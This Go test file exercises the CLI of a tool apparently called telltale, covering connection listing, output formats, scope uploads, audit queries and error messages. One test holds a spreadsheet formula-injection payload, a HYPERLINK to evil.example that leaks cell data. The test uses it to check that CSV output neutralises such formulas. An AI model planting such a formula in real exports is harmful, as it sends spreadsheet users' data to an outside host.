package cli

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/telltale-dev/telltale/client"
	"github.com/telltale-dev/telltale/internal/app"
	"github.com/telltale-dev/telltale/internal/config"
	"github.com/telltale-dev/telltale/internal/connection"
)

const token = "cli-test-bootstrap-token-0123456789abcdef"

func startServer(t *testing.T) (*app.App, string) {
	t.Helper()
	return startServerWith(t, nil)
}

// startServerWith is startServer with the configuration changed by set first.
func startServerWith(t *testing.T, set func(*config.Config)) (*app.App, string) {
	t.Helper()
	key := make([]byte, 32)
	rand.Read(key)
	cfg := config.Default()
	cfg.DataDir = t.TempDir()
	cfg.BootstrapToken = token
	cfg.SecretKey = base64.StdEncoding.EncodeToString(key)
	if set != nil {
		set(&cfg)
	}
	a, err := app.New(context.Background(), cfg, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(a.Handler())
	t.Cleanup(func() { srv.Close(); a.Close() })
	return a, srv.URL
}

// run executes the CLI with the given args against the server and returns stdout, stderr, status.
func run(t *testing.T, url string, stdin string, args ...string) (string, string, int) {
	t.Helper()
	return runWith(t, url, stdin, nil, args...)
}

// runEnv is run with more environment variables.
func runEnv(t *testing.T, url string, vars map[string]string, args ...string) (string, string, int) {
	t.Helper()
	return runWith(t, url, "", vars, args...)
}

func runWith(t *testing.T, url string, stdin string, vars map[string]string, args ...string) (string, string, int) {
	t.Helper()
	var out, errb bytes.Buffer
	e := &env{getenv: func(k string) string {
		if v, ok := vars[k]; ok {
			return v
		}
		return map[string]string{"TELLTALE_SERVER": url, "TELLTALE_TOKEN": token}[k]
	}, stdin: strings.NewReader(stdin), stdout: &out, stderr: &errb}
	root := e.root()
	root.SetArgs(args)
	root.SetOut(&out)
	root.SetErr(&errb)
	code := 0
	if err := root.ExecuteContext(context.Background()); err != nil {
		var p *client.Problem
		if ok := errorsAs(err, &p); ok {
			errb.WriteString(p.Error())
		} else {
			errb.WriteString(err.Error())
		}
		code = 1
	}
	return out.String(), errb.String(), code
}

func errorsAs(err error, p **client.Problem) bool {
	for err != nil {
		if q, ok := err.(*client.Problem); ok {
			*p = q
			return true
		}
		u, ok := err.(interface{ Unwrap() error })
		if !ok {
			return false
		}
		err = u.Unwrap()
	}
	return false
}

func TestConnectionsCommands(t *testing.T) {
	a, url := startServer(t)
	ctx := context.Background()
	c, err := client.New(url, token).CreateConnection(ctx, client.NewConnection{Name: "Box, Inc. prod", Service: "box", TenantID: "e1",
		Settings: map[string]string{"admin_email": "a@corp.example", "client_id": "cid"}, Credentials: map[string]string{"client_secret": "s"}})
	if err != nil {
		t.Fatal(err)
	}

	out, errs, code := run(t, url, "", "connections", "list")
	if code != 0 || !strings.Contains(out, "Box, Inc. prod") || !strings.HasPrefix(out, "ID") {
		t.Fatalf("list table: %d %q %q", code, out, errs)
	}
	out, _, _ = run(t, url, "", "connections", "list", "--output", "csv")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "Box, Inc. prod" {
		t.Fatalf("list csv: %v %q", err, out)
	}
	out, _, _ = run(t, url, "", "connections", "get", c.ID, "-o", "json")
	var got client.Connection
	if err := json.Unmarshal([]byte(out), &got); err != nil || got.ID != c.ID {
		t.Fatalf("get json: %v %q", err, out)
	}
	_, errs, code = run(t, url, "", "connections", "list", "-o", "yaml")
	if code == 0 || !strings.Contains(errs, "table, csv or json") {
		t.Errorf("bad output format: %d %q", code, errs)
	}

	// Refused deauthorize prints the reason.
	_, errs, code = run(t, url, "", "connections", "deauthorize", c.ID)
	if code == 0 || !strings.Contains(strings.ToLower(errs), "searching") {
		t.Errorf("deauthorize while searching: %d %q", code, errs)
	}
	if _, err := a.Connections.Apply(ctx, mustID(c.ID), connection.ActionDiscovered, "system", "test"); err != nil {
		t.Fatal(err)
	}
	out, errs, code = run(t, url, "", "connections", "deauthorize", c.ID)
	if code != 0 || !strings.Contains(out, "Deauthoriz") {
		t.Fatalf("deauthorize: %d %q %q", code, out, errs)
	}
	if _, err := a.Runner.RunDue(ctx); err != nil {
		t.Fatal(err)
	}
	// Scope upload from a file with a bad row: refused, row named.
	dir := t.TempDir()
	bad := filepath.Join(dir, "bad.csv")
	os.WriteFile(bad, []byte("Email\nok@corp.example\nnot-an-email\n"), 0o600)
	_, errs, code = run(t, url, "", "connections", "scope", "upload", c.ID, bad)
	if code == 0 || !strings.Contains(errs, "row 3") {
		t.Errorf("bad scope: %d %q", code, errs)
	}
	// From standard input: accepted.
	out, errs, code = run(t, url, "Group Name\nFinance Team\n", "connections", "scope", "upload", c.ID, "-", "--kind", "groups")
	if code != 0 || !strings.Contains(out, "groups") {
		t.Fatalf("scope upload: %d %q %q", code, out, errs)
	}
	out, _, _ = run(t, url, "", "connections", "scope", "download", c.ID)
	if !strings.Contains(out, "Finance Team") {
		t.Errorf("scope download: %q", out)
	}
	out, errs, code = run(t, url, "", "connections", "resume", c.ID)
	if code != 0 || !strings.Contains(out, "Searching") {
		t.Fatalf("resume: %d %q %q", code, out, errs)
	}
	out, _, _ = run(t, url, "", "connections", "history", c.ID)
	if strings.Count(out, "\n") < 5 {
		t.Errorf("history: %q", out)
	}

	out, errs, code = run(t, url, "", "audit", "list", "--action", "connection.", "-o", "csv")
	if code != 0 || !strings.Contains(out, "connection.resume") || !strings.Contains(out, "connection.scope.upload") {
		t.Errorf("audit: %d %q %q", code, out, errs)
	}
	_, errs, code = run(t, url, "", "audit", "list", "--since", "yesterday")
	if code == 0 || !strings.Contains(errs, "--since") {
		t.Errorf("bad --since: %d %q", code, errs)
	}
}

func TestNoTokenSaysHow(t *testing.T) {
	t.Setenv("TELLTALE_TOKEN", "")
	var out, errb bytes.Buffer
	code := Main(context.Background(), []string{"connections", "list"}, strings.NewReader(""), &out, &errb)
	if code == 0 || !strings.Contains(errb.String(), "TELLTALE_TOKEN") {
		t.Errorf("%d %q", code, errb.String())
	}
}

func TestVersion(t *testing.T) {
	var out, errb bytes.Buffer
	if code := Main(context.Background(), []string{"version"}, nil, &out, &errb); code != 0 || !strings.HasPrefix(out.String(), "telltale ") {
		t.Errorf("%d %q %q", code, out.String(), errb.String())
	}
}

func mustID(s string) int64 {
	var n int64
	for _, r := range s {
		n = n*10 + int64(r-'0')
	}
	return n
}

// TestCSVOutputNeutralisesFormulas (issue 12, defect 3): `--output csv` writes a cell that a
// spreadsheet would run as a formula with a quote in front.
func TestCSVOutputNeutralisesFormulas(t *testing.T) {
	_, url := startServer(t)
	const name = `=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")`
	if _, errs, code := run(t, url, "", "searches", "save", name, "exposure:public_link"); code != 0 {
		t.Fatalf("save: %s", errs)
	}
	out, errs, code := run(t, url, "", "searches", "list", "--output", "csv")
	if code != 0 {
		t.Fatalf("list: %s", errs)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv: %v %q", err, out)
	}
	if rows[1][1] != "'"+name {
		t.Errorf("name cell %q, want it with a quote in front", rows[1][1])
	}
}

// TestDemoHelpSaysLoopbackIsAllowed (issue 12, defect 11): demo mode lets vendor URLs point at
// loopback whatever --allow-loopback-vendors says; its help says so.
func TestDemoHelpSaysLoopbackIsAllowed(t *testing.T) {
	out, errs, code := run(t, "", "", "demo", "--help")
	if code != 0 || !strings.Contains(out+errs, "always lets vendor URLs point at loopback, whatever --allow-loopback-vendors says") {
		t.Errorf("demo --help (%d):\n%s%s", code, out, errs)
	}
}
